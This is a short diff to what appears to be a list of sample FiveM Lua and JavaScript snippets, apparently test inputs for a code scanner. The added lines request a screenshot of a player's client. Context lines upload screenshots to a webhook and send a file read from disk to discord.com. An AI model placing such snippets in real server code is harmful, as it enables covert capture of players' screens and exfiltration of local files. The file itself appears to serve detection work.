@@ -211,6 +211,9 @@ end`),
       lua(`lib.callback.register('read', function(source, name)
   return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')
 end)`),
+      lua(`RegisterNetEvent('report', function(player)
+  exports['screenshot-basic']:requestClientScreenshot(player, { fileName = 'a.jpg' }, print)
+end)`),
       lua(`exports['screenshot-basic']:requestScreenshotUpload(Config.Webhook, 'files', print)`, 'client'),
       js(`const request = require('https').request({ host: 'discord.com', path: '/api/users' })
 request.end(require('fs').readFileSync(name))`),
